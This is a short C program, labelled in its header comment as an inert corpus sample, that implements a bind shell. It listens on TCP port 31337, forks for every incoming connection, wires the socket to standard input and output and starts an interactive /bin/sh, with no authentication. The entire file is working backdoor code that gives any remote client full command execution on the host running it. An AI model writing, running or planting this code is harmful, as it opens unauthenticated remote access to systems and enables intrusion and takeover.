/* Corpus sample (inert: compiled, never run). A bind shell written here from scratch: listens
 * on a TCP port and gives every client an interactive shell on the connection. */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in local;
	int one = 1;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&local, 0, sizeof local);
	local.sin_family = AF_INET;
	local.sin_port = htons(31337);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(s, (struct sockaddr *)&local, sizeof local) != 0 || listen(s, 4) != 0)
		return 1;
	for (;;) {
		int c = accept(s, 0, 0);
		if (c < 0)
			continue;
		if (fork() == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execl("/bin/sh", "sh", "-i", (char *)0);
			_exit(1);
		}
		close(c);
	}
}
